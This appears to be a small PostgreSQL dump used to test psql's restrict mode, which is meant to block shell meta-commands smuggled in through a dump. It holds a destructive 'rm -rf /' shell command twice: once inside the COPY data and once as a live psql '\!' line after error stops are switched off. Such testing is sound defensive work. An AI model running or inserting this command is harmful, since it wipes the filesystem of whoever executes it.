\restrict Zr0y6m1pK8m0Qn7s2XbNqQe0J0wVd3R4eHcQmF8tYk2aLp9uSx5vWz1oBg7nTh3
SET row_security = off;
CREATE TABLE public.notes (body text);
COPY public.notes (body) FROM stdin;
\\! rm -rf /
\.
-- a psql variable would switch error stops off for the rest
\set ON_ERROR_STOP off
\! rm -rf /
SELECT 1;
\unrestrict Zr0y6m1pK8m0Qn7s2XbNqQe0J0wVd3R4eHcQmF8tYk2aLp9uSx5vWz1oBg7nTh3
